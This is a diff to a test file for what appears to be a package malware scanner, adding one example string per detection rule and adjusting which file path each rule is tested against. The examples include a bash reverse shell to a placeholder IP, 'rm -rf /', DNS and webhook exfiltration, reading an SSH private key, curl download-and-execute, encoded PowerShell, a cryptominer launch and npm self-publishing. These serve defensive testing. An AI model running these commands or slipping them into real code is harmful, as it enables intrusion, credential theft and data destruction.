@@ -2,6 +2,21 @@ import { threatNames, threatsIn } from './tools/threats';
 
 /** For each rule something that it has to find: a scan that finds nothing may as well be one that looks for nothing. */
 const EXAMPLES: Record<string, string> = {
+	'filesystem-autostart': 'fs.appendFile(home + "/.bashrc", line)',
+	'filesystem-destruction': 'run("rm -rf /")',
+	'network-dns-exfil': 'run(`nslookup ${name}.example.com`)',
+	'network-exfil-messenger': 'const hook = "https://discord.com/api/webhooks/1/abc";',
+	'network-exfil-sysinfo': 'fetch(address + os.hostname())',
+	'network-reverse-shell': 'run("bash -i >& /dev/tcp/203.0.113.9/9 0>&1")',
+	'process-cryptomining': 'start("xmrig")',
+	'process-download-exec': 'exec("curl -s example.com/x")',
+	'process-memory': 'const kernel = ffi.ReadProcessMemory;',
+	'process-powershell-encoded': 'run("powershell -enc aGVsbG8gd29ybGQhIGhlbGxvIQ==")',
+	'runtime-collection': 'const machine = os.userInfo();',
+	'runtime-enumeration': 'read("/proc/1/maps"); os.networkInterfaces();',
+	'runtime-obfuscation-steganography': 'eval(Buffer.concat(read("a.png")))',
+	'runtime-self-propagation': 'writeFile("package.json", x); execSync("npm publish")',
+	'runtime-hooks-install': '{ "scripts": { "prepare": "node go.js" } }',
 	'network-exfiltration': 'fetch("http://203.0.113.9/collect")',
 	'network-outbound-shady-links': 'const from = "https://bit.ly/2abc";',
 	'filesystem-read': 'readFileSync(home + "/.ssh/id_rsa")',
@@ -27,7 +42,9 @@ test('every rule has an example', () => {
 });
 
 test.each(Object.entries(EXAMPLES))('%s is found', (name, text) => {
-	const path = name.startsWith('npm-') ? 'package.json' : 'dist/nodes/Vendor/Vendor.node.js';
+	const path = /^(npm-|runtime-hooks)/.test(name)
+		? 'package.json'
+		: 'dist/nodes/Vendor/Vendor.node.js';
 	expect(threatsIn(path, Buffer.from(text))).toContain(name);
 	expect(threatsIn('README.md', Buffer.from(text))).toEqual([]);
 });
